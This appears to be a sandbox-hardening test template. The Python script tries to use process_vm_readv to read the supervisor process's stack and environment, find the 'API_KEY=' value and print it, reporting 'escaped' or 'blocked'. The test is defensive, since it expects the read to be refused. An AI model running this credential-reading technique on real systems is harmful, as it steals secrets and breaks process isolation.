# attack: proc_vm_readv_supervisor
# category: process
# attempts: process_vm_readv the top of the supervisor's stack (its environment, with API_KEY)
# expect: ESRCH (PID namespace) or EPERM (seccomp; ptrace access check)
# control: yes
# canaries: none
import ctypes
import errno


def report(kind, detail):
    print("ATTACK-RESULT:", kind, detail, flush=True)


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_readv.restype = ctypes.c_ssize_t
pid = {{SUPERVISOR_PID}}
lo = hi = None
try:
    with open("/proc/%d/maps" % pid) as f:
        for line in f:
            if line.rstrip().endswith("[stack]"):
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
except OSError:
    pass
if hi is None:
    # Maps hidden: guess a typical x86-64 stack top; any success still proves access.
    hi = 0x7ffffffff000
    lo = hi - 0x21000
size = min(hi - lo, 256 * 1024)
buf = ctypes.create_string_buffer(size)
local = IoVec(ctypes.cast(buf, ctypes.c_void_p), size)
remote = IoVec(hi - size, size)
n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
if n < 0:
    e = ctypes.get_errno()
    report("blocked", errno.errorcode.get(e, str(e)))
else:
    data = buf.raw[:n]
    idx = data.find(b"API_KEY=")
    if idx >= 0:
        print(data[idx:idx + 80].split(b"\0")[0].decode("latin-1"))
    report("escaped", "read %d bytes of supervisor memory" % n)
